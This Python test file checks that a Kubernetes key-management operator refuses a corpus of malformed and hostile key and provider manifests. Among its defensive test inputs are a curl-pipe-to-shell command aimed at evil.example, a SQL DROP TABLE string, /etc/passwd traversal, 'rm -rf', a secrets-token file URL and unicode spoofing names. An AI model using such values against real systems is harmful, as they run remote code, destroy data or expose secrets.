"""A corpus of malformed and hostile EncryptionKeys, providers and request annotations.

Each case is refused at the earliest layer that can refuse it, with the reason and
a message naming the field:

- `schema`: the CRD's OpenAPI schema, CEL rules or strict field decoding in the API
  server (the write never reaches the webhooks, so it is refused with them down);
- `webhook`: the validating admission webhook, "denied the request: <Reason>: ...";
- `operator`: admitted, then `Ready=False` with a constant reason.

After each case nothing of it reached the ledger (no row of the case's tenant) or a
KMS (no entry of the tenant in the local provider's keystore, the only KMS a
corpus key could reach).
"""

from __future__ import annotations

import uuid
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from typing import Any

import pytest
import yaml
from sqlalchemy import select
from sqlalchemy.orm import Session, sessionmaker

from keyledger.store.models import EncryptionKeyRecord
from tests.fixtures_operator import (
    annotate,
    apply,
    encryption_key,
    get,
    provider_manifest,
    rows,
    tenant_namespace,
    wait_condition,
    wait_not_ready,
)
from tests.harness.controlplane import ControlPlane, kubectl
from tests.harness.operator import OperatorProcess

pytestmark = [pytest.mark.cluster, pytest.mark.postgres]

Manifest = dict[str, Any]
# What a case is given: the corpus namespace's world, to build its manifest from.
Build = Callable[["World"], Manifest]


@dataclass(frozen=True)
class World:
    namespace: str  # bound to `tenant`
    tenant: str
    provider: str  # the shared local ClusterKeyProvider
    other_namespace: str  # bound to `other_tenant`, holding KeyProvider `theirs`
    other_tenant: str
    unbound_namespace: str  # no tenant label
    closed_provider: str  # a ClusterKeyProvider for `other_tenant` only
    selective_provider: str  # a ClusterKeyProvider whose namespaceSelector matches nothing
    gcp_provider: str  # a gcpKms ClusterKeyProvider keeping destroyed versions 10 days
    existing: str  # a Ready key of `tenant`, version 1, for changes and annotations

    def key(self, name: str = "corpus", **spec: Any) -> Manifest:
        spec.setdefault("tenant", self.tenant)
        return encryption_key(name, self.namespace, provider=self.provider, **spec)


@dataclass(frozen=True)
class Case:
    id: str
    layer: str  # schema | webhook | operator
    build: Build
    expect: tuple[str, ...]  # fragments of the refusal, the field named in each
    reason: str | None = None  # the webhook's or the operator's reason
    # How the case is written: a new object (create), an edit of `existing` (update),
    # or request annotations on `existing` (annotate).
    write: str = "create"
    annotations: dict[str, str] = field(default_factory=dict)
    warning: str | None = None  # what the webhook warns of when it admits the case


def spec_with(**spec: Any) -> Build:
    return lambda w: w.key(**spec)


def without(path: str) -> Build:
    def build(w: World) -> Manifest:
        manifest = w.key()
        del manifest["spec"][path]
        return manifest

    return build


def named(name: str, **spec: Any) -> Build:
    return lambda w: w.key(name, **spec)


def changed(**spec: Any) -> Build:
    """`existing` with spec fields changed, as `kubectl apply` of an edited file sends it."""
    return lambda w: w.key(w.existing, **spec)


def provider(kind: str, spec: dict[str, Any]) -> Build:
    def build(w: World) -> Manifest:
        name = f"corpus-{uuid.uuid4().hex[:6]}"
        return provider_manifest(name, spec, namespace=w.namespace if kind == "kp" else None)

    return build


def raw(build: Build, mutate: Callable[[Manifest], None]) -> Build:
    def wrapped(w: World) -> Manifest:
        manifest = build(w)
        mutate(manifest)
        return manifest

    return wrapped


def _set(path: list[str], value: Any) -> Callable[[Manifest], None]:
    def mutate(manifest: Manifest) -> None:
        target = manifest
        for part in path[:-1]:
            target = target.setdefault(part, {})
        target[path[-1]] = value

    return mutate


HUGE = "A" * 100_000
DURATION_MUST = "must be a positive duration"
NOT_STRING = "must be of type string"

CORPUS: list[Case] = [
    # -- wrong types ------------------------------------------------------------------
    Case("keyType-integer", "schema", spec_with(keyType=7), ("spec.keyType", NOT_STRING)),
    Case(
        "providerRef-string",
        "schema",
        spec_with(providerRef="aws-prod"),
        ("spec.providerRef", "must be of type object"),
    ),
    Case(
        "deletionWindowDays-string",
        "schema",
        spec_with(deletionWindowDays="30"),
        ("spec.deletionWindowDays", "must be of type integer"),
    ),
    Case(
        "complianceTags-nested",
        "schema",
        spec_with(complianceTags={"hipaa": {"$ne": None}}),
        ('unknown field "spec.complianceTags.hipaa.$ne"',),
    ),
    Case(
        "accessPolicy-list",
        "schema",
        spec_with(accessPolicy=["allow", "*"]),
        ("spec.accessPolicy", "must be of type object"),
    ),
    Case(
        "authorizedServices-object",
        "schema",
        spec_with(authorizedServices={"records-api": True}),
        ('unknown field "spec.authorizedServices.records-api"',),
    ),
    Case("tenant-missing", "schema", without("tenant"), ("spec.tenant", "Required value")),
    Case("providerRef-missing", "schema", without("providerRef"), ("spec.providerRef", "Required")),
    # -- unknown enums and fields -----------------------------------------------------
    Case(
        "keyType-unknown",
        "schema",
        spec_with(keyType="TOP_SECRET"),
        ("spec.keyType", 'Unsupported value: "TOP_SECRET"'),
    ),
    Case(
        "keyType-lowercase",
        "schema",
        spec_with(keyType="phi_data"),
        ("spec.keyType", 'Unsupported value: "phi_data"'),
    ),
    Case("state-unknown", "schema", spec_with(state="Deleted"), ("spec.state", "Unsupported")),
    Case(
        "deletionPolicy-unknown",
        "schema",
        spec_with(deletionPolicy="Destroy"),
        ("spec.deletionPolicy", 'Unsupported value: "Destroy"'),
    ),
    Case("algorithm-weak", "schema", spec_with(algorithm="DES-CBC"), ("spec.algorithm", "DES")),
    Case(
        "providerRef-kind-unknown",
        "schema",
        spec_with(providerRef={"kind": "SecretStore", "name": "x"}),
        ("spec.providerRef.kind", 'Unsupported value: "SecretStore"'),
    ),
    Case(
        "unknown-field",
        "schema",
        spec_with(keySize=4096),
        ('unknown field "spec.keySize"',),
    ),
    Case(
        "providerRef-namespace-cross-tenant",
        "schema",
        lambda w: w.key(
            providerRef={"kind": "KeyProvider", "name": "theirs", "namespace": w.other_namespace}
        ),
        ('unknown field "spec.providerRef.namespace"',),
    ),
    # -- huge strings -----------------------------------------------------------------
    Case("purpose-huge", "schema", spec_with(purpose=HUGE), ("spec.purpose", "Too long")),
    Case("keyName-huge", "schema", spec_with(keyName="k" * 201), ("spec.keyName", "Too long")),
    Case("tenant-huge", "schema", spec_with(tenant="t" * 64), ("spec.tenant", "Too long")),
    Case(
        "authorizedServices-too-many",
        "schema",
        spec_with(authorizedServices=[f"svc-{i}" for i in range(65)]),
        ("spec.authorizedServices", "Too many"),
    ),
    Case(
        "complianceTags-too-many",
        "schema",
        spec_with(complianceTags={f"tag{i}": "x" for i in range(33)}),
        ("spec.complianceTags", "Too many"),
    ),
    Case(
        "rotation-period-huge",
        "schema",
        spec_with(rotation={"period": "1d" * 20}),
        ("spec.rotation.period", "Too long"),
    ),
    # -- invalid or contradictory durations -------------------------------------------
    Case(
        "rotation-period-words",
        "schema",
        spec_with(rotation={"period": "90 days"}),
        ("spec.rotation.period", "should match"),
    ),
    Case(
        "rotation-period-negative",
        "schema",
        spec_with(rotation={"period": "-1d"}),
        ("spec.rotation.period", "should match"),
    ),
    Case(
        "rotation-period-zero",
        "schema",
        spec_with(rotation={"period": "0d0h"}),
        ("spec.rotation.period", DURATION_MUST),
    ),
    Case(
        "rollback-window-iso8601",
        "schema",
        spec_with(rollback={"window": "P7D"}),
        ("spec.rollback.window", "should match"),
    ),
    Case(
        "expiry-after-and-at",
        "schema",
        spec_with(expiry={"after": "365d", "at": "2030-01-01T00:00:00Z"}),
        ("spec.expiry", "set either expiry.after or expiry.at, not both"),
    ),
    Case(
        "expiry-at-not-a-time",
        "schema",
        spec_with(expiry={"at": "tomorrow"}),
        ("spec.expiry.at", "date-time"),
    ),
    Case(
        "deletionWindowDays-too-short",
        "schema",
        spec_with(deletionWindowDays=3),
        ("spec.deletionWindowDays", "should be greater than or equal to 7"),
    ),
    Case(
        "deletionWindowDays-huge",
        "schema",
        spec_with(deletionWindowDays=10**12),
        ("spec.deletionWindowDays", "should be less than or equal to 30"),
    ),
    Case(
        "rollback-window-longer-than-period",
        "webhook",
        spec_with(rotation={"period": "1d"}, rollback={"window": "2d"}),
        ("spec.rollback.window (2d) must be shorter than spec.rotation.period (1d)",),
        reason="RollbackWindowTooLong",
    ),
    Case(
        "rollback-window-equal-period-spelled-differently",
        "webhook",
        spec_with(rotation={"period": "1d"}, rollback={"window": "23h60m"}),
        ("spec.rollback.window (1d) must be shorter than spec.rotation.period (1d)",),
        reason="RollbackWindowTooLong",
    ),
    Case(
        "expiry-before-rotation",
        "webhook",
        spec_with(rotation={"period": "30d"}, expiry={"after": "720h"}),
        ("spec.expiry.after (30d) must be longer than spec.rotation.period (30d)",),
        reason="ExpiryBeforeRotation",
    ),
    Case(
        "deletion-window-beyond-backend",
        "webhook",
        lambda w: w.key(
            providerRef={"kind": "ClusterKeyProvider", "name": w.gcp_provider},
            deletionPolicy="ScheduleDeletion",
            deletionWindowDays=20,
        ),
        ("spec.deletionWindowDays (20) is outside what the gcpKms provider",),
        reason="DeletionWindowOutOfRange",
    ),
    # -- injection attempts and unicode tricks in names -------------------------------
    Case(
        "keyName-sql",
        "schema",
        spec_with(keyName="x'; DROP TABLE encryption_keys;--"),
        ("spec.keyName", "should match"),
    ),
    Case(
        "keyName-shell",
        "schema",
        spec_with(keyName="$(curl evil.example|sh)"),
        ("spec.keyName", "should match"),
    ),
    Case(
        "keyName-path-traversal",
        "schema",
        spec_with(keyName="../../etc/passwd"),
        ("spec.keyName", "should match"),
    ),
    Case(
        "keyName-jsonpath",
        "schema",
        spec_with(keyName="{.spec.tenant}"),
        ("spec.keyName", "should match"),
    ),
    Case(
        "keyName-cel",
        "schema",
        spec_with(keyName="self.tenant == oldSelf.tenant || true"),
        ("spec.keyName", "should match"),
    ),
    Case(
        "keyName-homoglyph",
        "schema",
        spec_with(keyName="ph\u0456-primary"),  # Cyrillic i
        ("spec.keyName", "should match"),
    ),
    Case(
        "keyName-zero-width",
        "schema",
        spec_with(keyName="phi\u200bprimary"),
        ("spec.keyName", "should match"),
    ),
    Case(
        "keyName-bidi-override",
        "schema",
        spec_with(keyName="phi\u202eyek"),
        ("spec.keyName", "should match"),
    ),
    Case("keyName-empty", "schema", spec_with(keyName=""), ("spec.keyName", "at least 1")),
    Case(
        "tenant-sql",
        "schema",
        spec_with(tenant="acme' OR '1'='1"),
        ("spec.tenant", "should match"),
    ),
    Case(
        "providerRef-name-traversal",
        "schema",
        spec_with(providerRef={"kind": "ClusterKeyProvider", "name": "../aws-prod"}),
        ("spec.providerRef.name", "should match"),
    ),
    Case(
        "metadata-name-shell",
        "schema",
        named("phi;rm -rf"),
        ("metadata.name", "RFC 1123"),
    ),
    Case(
        "adopt-empty",
        "schema",
        spec_with(adopt={"kmsKeyId": ""}),
        ("spec.adopt.kmsKeyId", "at least 1"),
    ),
    Case(
        "adopt-foreign-ref",
        "webhook",
        spec_with(adopt={"kmsKeyId": "arn:aws:kms:eu-west-1:111122223333:key/abc"}),
        ("spec.adopt.kmsKeyId: 'arn:aws:kms:eu-west-1:111122223333:key/abc' is not a local",),
        reason="AdoptionRefused",
    ),
    Case(
        "adopt-traversal",
        "webhook",
        spec_with(adopt={"kmsKeyId": "local:../../../etc/passwd"}),
        ("spec.adopt.kmsKeyId: 'local:../../../etc/passwd' is not a local",),
        reason="AdoptionRefused",
    ),
    # -- cross-tenant references and unknown providers --------------------------------
    Case(
        "tenant-of-another-namespace",
        "webhook",
        lambda w: w.key(tenant=w.other_tenant),
        ("spec.tenant: namespace", "is bound to tenant"),
        reason="TenantMismatch",
    ),
    Case(
        "namespace-not-bound",
        "webhook",
        lambda w: encryption_key(
            "corpus", w.unbound_namespace, tenant=w.tenant, provider=w.provider
        ),
        ("spec.tenant: namespace", "is not bound to a tenant"),
        reason="NamespaceNotBoundToTenant",
    ),
    Case(
        "provider-closed-to-tenant",
        "webhook",
        lambda w: w.key(providerRef={"kind": "ClusterKeyProvider", "name": w.closed_provider}),
        ("spec.providerRef: ClusterKeyProvider", "does not serve tenant"),
        reason="ProviderNotAllowed",
    ),
    Case(
        "provider-selector-excludes-namespace",
        "webhook",
        lambda w: w.key(providerRef={"kind": "ClusterKeyProvider", "name": w.selective_provider}),
        ("spec.providerRef: ClusterKeyProvider", "does not serve this namespace"),
        reason="ProviderNotAllowed",
    ),
    # -- immutable fields ---------------------------------------------------------------
    Case(
        "change-tenant",
        "schema",
        lambda w: w.key(w.existing, tenant=w.other_tenant),
        ("spec.tenant", "tenant is immutable"),
        write="update",
    ),
    Case(
        "change-keyName",
        "schema",
        changed(keyName="renamed"),
        ("spec.keyName", "keyName is immutable"),
        write="update",
    ),
    Case(
        "change-keyType",
        "schema",
        changed(keyType="FINANCIAL"),
        ("spec.keyType", "keyType is immutable"),
        write="update",
    ),
    Case(
        "change-providerRef",
        "schema",
        lambda w: w.key(
            w.existing, providerRef={"kind": "ClusterKeyProvider", "name": w.gcp_provider}
        ),
        ("spec.providerRef", "providerRef is immutable"),
        write="update",
    ),
    Case(
        "add-adopt",
        "schema",
        changed(adopt={"kmsKeyId": "local:tests/00000000-0000-0000-0000-000000000000"}),
        ("spec.adopt", "adopt is immutable"),
        write="update",
    ),
    # -- request annotations that cannot be honoured ----------------------------------
    Case(
        "rollback-without-previous-version",
        "webhook",
        lambda w: {},
        ("keyledger.io/rollback-requested-at: nothing to roll back to",),
        reason="NoPreviousVersion",
        write="annotate",
        annotations={"keyledger.io/rollback-requested-at": "corpus-1"},
    ),
    Case(
        "compromise-without-reason",
        "webhook",
        lambda w: {},
        ("keyledger.io/compromise-reason: say why",),
        reason="CompromiseReasonMissing",
        write="annotate",
        annotations={"keyledger.io/compromised-requested-at": "corpus-2"},
    ),
    Case(
        "compromise-blank-reason",
        "webhook",
        lambda w: {},
        ("keyledger.io/compromise-reason: say why",),
        reason="CompromiseReasonMissing",
        write="annotate",
        annotations={
            "keyledger.io/compromised-requested-at": "corpus-3",
            "keyledger.io/compromise-reason": "   ",
        },
    ),
    # -- providers ------------------------------------------------------------------------
    Case(
        "provider-two-backends",
        "schema",
        provider("ckp", {"local": {}, "awsKms": {"region": "eu-west-1"}}),
        ("set exactly one backend",),
    ),
    Case("provider-no-backend", "schema", provider("kp", {}), ("set exactly one backend",)),
    Case(
        "provider-unknown-backend",
        "schema",
        provider("kp", {"hsmCloud": {"url": "https://x"}}),
        ('unknown field "spec.hsmCloud"',),
    ),
    Case(
        "key-provider-pkcs11-module",
        "schema",
        provider("kp", {"pkcs11": {"modulePath": "/tmp/evil.so", "tokenLabel": "t"}}),
        ("spec.pkcs11", "only a ClusterKeyProvider"),
    ),
    Case(
        "provider-keystore-traversal",
        "schema",
        provider("kp", {"local": {"keystore": "../../../etc/passwd"}}),
        ("spec.local.keystore", "should match"),
    ),
    Case(
        "provider-vault-file-url",
        "schema",
        provider("kp", {"vault": {"address": "file:///var/run/secrets/token"}}),
        ("spec.vault.address", "should match"),
    ),
    Case(
        "provider-vault-auth-unknown",
        "schema",
        provider("kp", {"vault": {"address": "https://vault", "auth": {"method": "userpass"}}}),
        ("spec.vault.auth.method", 'Unsupported value: "userpass"'),
    ),
    Case(
        "provider-azure-plain-http",
        "schema",
        provider("kp", {"azureKeyVault": {"vaultUrl": "http://vault.example"}}),
        ("spec.azureKeyVault.vaultUrl", "should match"),
    ),
    Case(
        "provider-credentials-traversal",
        "schema",
        provider("kp", {"local": {}, "credentialsRef": {"name": "../kube-system/admin"}}),
        ("spec.credentialsRef.name", "should match"),
    ),
    Case(
        "provider-allowed-tenants-wildcard",
        "schema",
        provider("ckp", {"local": {}, "allowedTenants": ["*"]}),
        ("spec.allowedTenants[0]", "should match"),
    ),
    Case(
        "provider-selector-operator-unknown",
        "schema",
        provider(
            "ckp",
            {
                "local": {},
                "namespaceSelector": {"matchExpressions": [{"key": "a", "operator": "Matches"}]},
            },
        ),
        ("spec.namespaceSelector.matchExpressions[0].operator", "Unsupported value"),
    ),
    Case(
        "provider-gcp-destroy-days-zero",
        "schema",
        provider(
            "ckp", {"gcpKms": {"project": "p", "location": "global", "destroyScheduledDays": 0}}
        ),
        ("spec.gcpKms.destroyScheduledDays", "greater than or equal to 1"),
    ),
    Case(
        "provider-aws-region-number",
        "schema",
        provider("kp", {"awsKms": {"region": 1}}),
        ("spec.awsKms.region", NOT_STRING),
    ),
]

# Admitted, refused by the operator: Ready=False with the reason, and no KMS call made.
OPERATOR_CASES = [
    Case(
        "provider-unknown",
        "operator",
        named("nowhere", providerRef={"kind": "ClusterKeyProvider", "name": "nowhere"}),
        ("ClusterKeyProvider 'nowhere'", "does not exist"),
        reason="ProviderNotFound",
        warning="spec.providerRef: ClusterKeyProvider 'nowhere' does not exist yet",
    ),
    Case(
        "key-provider-of-another-namespace",
        "operator",
        named("theirs", providerRef={"kind": "KeyProvider", "name": "theirs"}),
        ("KeyProvider 'theirs'", "does not exist"),
        reason="ProviderNotFound",
        warning="spec.providerRef: KeyProvider 'theirs' in namespace",
    ),
    Case(
        "keyName-taken-in-tenant",
        "operator",
        lambda w: w.key("second", keyName=w.existing),
        ("spec.keyName: tenant", "already has a key", "choose another spec.keyName"),
        reason="KeyNameTaken",
    ),
    Case(
        "adopt-entry-of-another-keystore",
        "operator",
        named("adopt-elsewhere", adopt={"kmsKeyId": f"local:other/{uuid.UUID(int=1)}"}),
        ("spec.adopt.kmsKeyId", "is not a key of local keystore 'tests'"),
        reason="AdoptionRefused",
    ),
    Case(
        "provider-not-ready",
        "operator",
        named("waits", providerRef={"kind": "KeyProvider", "name": "no-credentials"}),
        ("KeyProvider 'no-credentials'", "is not Ready"),
        reason="ProviderNotReady",
    ),
]


@pytest.fixture(scope="module")
def world(
    crds: ControlPlane,
    operator: OperatorProcess,
    local_provider: str,
    ledger_sessions: sessionmaker[Session],
) -> Iterator[World]:
    suffix = uuid.uuid4().hex[:8]
    tenant, other_tenant = f"corpus-{suffix}", f"corpus-other-{suffix}"
    namespace = tenant_namespace(crds, f"t-corpus-{suffix}", tenant)
    other = tenant_namespace(crds, f"t-corpus-other-{suffix}", other_tenant)
    unbound = f"t-corpus-unbound-{suffix}"
    kubectl(crds, "create", "namespace", unbound)
    apply(crds, provider_manifest("theirs", {"local": {"keystore": "tests"}}, namespace=other))
    closed = provider_manifest(f"corpus-closed-{suffix}", {"local": {"keystore": "tests"}})
    closed["spec"]["allowedTenants"] = [other_tenant]
    selective = provider_manifest(f"corpus-selective-{suffix}", {"local": {"keystore": "tests"}})
    selective["spec"]["namespaceSelector"] = {"matchLabels": {"corpus": "none"}}
    gcp = provider_manifest(
        f"corpus-gcp-{suffix}",
        {"gcpKms": {"project": "p", "location": "global", "destroyScheduledDays": 10}},
    )
    # A provider that can never be Ready: its Secret does not exist, its endpoint is
    # no server. Keys naming it must wait without a KMS call.
    no_credentials = provider_manifest(
        "no-credentials",
        {
            "awsKms": {"region": "eu-west-1", "endpoint": "http://127.0.0.1:9"},
            "credentialsRef": {"name": "missing"},
        },
        namespace=namespace,
    )
    for manifest in (closed, selective, gcp, no_credentials):
        apply(crds, manifest)
    found = World(
        namespace=namespace,
        tenant=tenant,
        provider=local_provider,
        other_namespace=other,
        other_tenant=other_tenant,
        unbound_namespace=unbound,
        closed_provider=closed["metadata"]["name"],
        selective_provider=selective["metadata"]["name"],
        gcp_provider=gcp["metadata"]["name"],
        existing="existing",
    )
    apply(crds, found.key(found.existing))
    wait_condition(crds, "ek", found.existing, "Ready", namespace=namespace, operator=operator)
    # The checks below see what they look for: the existing key's row and KMS entry.
    assert [r.version for r in rows(ledger_sessions, tenant, found.existing)] == [1]
    assert tenant in keystore_text(operator)
    yield found
    kubectl(crds, "delete", "ek", "--all", "-n", namespace, "--timeout=60s", check=False)
    kubectl(
        crds,
        "delete",
        "ckp",
        found.closed_provider,
        found.selective_provider,
        found.gcp_provider,
        check=False,
    )


def keystore_text(operator: OperatorProcess) -> str:
    """Everything in the local provider's keystores, whatever their format: a key
    made for a tenant carries the tenant's name in its labels."""
    files = sorted(p for p in operator.keystore_dir.rglob("*") if p.is_file())
    return "\n".join(p.read_bytes().decode(errors="replace") for p in files)


def ledger_rows_of(sessions: sessionmaker[Session], *tenants: str) -> list[tuple[str, str, int]]:
    with sessions() as session:
        found = session.execute(
            select(
                EncryptionKeyRecord.tenant_id,
                EncryptionKeyRecord.key_name,
                EncryptionKeyRecord.version,
            ).where(EncryptionKeyRecord.tenant_id.in_(tenants))
        )
        return [(t, k, v) for t, k, v in found]


def write(cp: ControlPlane, case: Case, world: World) -> tuple[int, str]:
    if case.write == "annotate":
        pairs = [f"{k}={v}" for k, v in case.annotations.items()]
        result = kubectl(
            cp,
            "annotate",
            "--overwrite",
            "-n",
            world.namespace,
            f"ek/{world.existing}",
            *pairs,
            check=False,
        )
    else:
        verb = "apply" if case.write == "update" else "create"
        result = kubectl(cp, verb, "-f", "-", input=yaml.safe_dump(case.build(world)), check=False)
    return result.returncode, result.stderr


def assert_untouched(
    case: Case, world: World, sessions: sessionmaker[Session], operator: OperatorProcess
) -> None:
    """Nothing of the case reached the ledger or the KMS: only `existing`'s version 1."""
    assert ledger_rows_of(sessions, world.tenant, world.other_tenant) == [
        (world.tenant, world.existing, 1)
    ], case.id
    keystore = keystore_text(operator)
    assert (keystore.count(world.tenant), keystore.count(world.other_tenant)) == (1, 0), case.id


@pytest.mark.parametrize("case", CORPUS, ids=[c.id for c in CORPUS])
def test_refused_at_admission(
    case: Case,
    world: World,
    crds: ControlPlane,
    operator: OperatorProcess,
    ledger_sessions: sessionmaker[Session],
) -> None:
    code, stderr = write(crds, case, world)
    if code == 0 and case.write == "create":  # leave nothing behind for the next case
        kubectl(crds, "delete", "-f", "-", input=yaml.safe_dump(case.build(world)), check=False)
    assert code != 0, f"{case.id} was admitted"
    webhook = "denied the request"
    if case.layer == "schema":
        # Refused before any webhook was asked: it holds with the operator down.
        assert webhook not in stderr, stderr
    else:
        assert f'admission webhook "rules.keyledger.io" {webhook}: {case.reason}: ' in stderr, (
            stderr
        )
    missing = [fragment for fragment in case.expect if fragment not in stderr]
    assert missing == [], stderr[:2000]
    if case.write == "create":
        manifest = case.build(world)
        metadata = manifest["metadata"]
        kind = manifest["kind"].lower()
        args = ["get", kind, metadata["name"]] + (
            ["-n", metadata["namespace"]] if "namespace" in metadata else []
        )
        assert kubectl(crds, *args, check=False).returncode != 0, f"{case.id} exists"
    else:
        stored = get(crds, "ek", world.existing, world.namespace)
        assert stored["spec"]["tenant"] == world.tenant and "adopt" not in stored["spec"]
        # Compared key by key: a substring search of all annotations once found the
        # token "corpus-2" inside this run's tenant name, corpus-2af682f1.
        annotations = stored["metadata"].get("annotations", {})
        kept = {
            key: value for key, value in case.annotations.items() if annotations.get(key) == value
        }
        assert kept == {}, case.id
    assert_untouched(case, world, ledger_sessions, operator)


@pytest.mark.parametrize("case", OPERATOR_CASES, ids=[c.id for c in OPERATOR_CASES])
def test_refused_by_the_operator(
    case: Case,
    world: World,
    crds: ControlPlane,
    operator: OperatorProcess,
    ledger_sessions: sessionmaker[Session],
) -> None:
    manifest = case.build(world)
    admitted = apply(crds, manifest)
    assert case.warning is None or f"Warning: {case.warning}" in admitted.stderr, admitted.stderr
    name = manifest["metadata"]["name"]
    assert case.reason is not None
    ek = wait_not_ready(crds, name, case.reason, namespace=world.namespace, operator=operator)
    message = next(c for c in ek["status"]["conditions"] if c["type"] == "Ready")["message"]
    assert [f for f in case.expect if f not in message] == [], message
    # Refused for good, not half-done: a later pass (the drift interval is 3 s) adds nothing.
    annotate(crds, world.namespace, name, rotate_requested_at="corpus-later")
    wait_not_ready(crds, name, case.reason, namespace=world.namespace, operator=operator)
    assert_untouched(case, world, ledger_sessions, operator)
    kubectl(crds, "delete", "ek", name, "-n", world.namespace, "--timeout=60s")
    assert_untouched(case, world, ledger_sessions, operator)


def test_the_corpus_is_large_and_covers_every_layer() -> None:
    cases = CORPUS + OPERATOR_CASES
    assert len({c.id for c in cases}) == len(cases) >= 40
    assert {c.layer for c in cases} == {"schema", "webhook", "operator"}
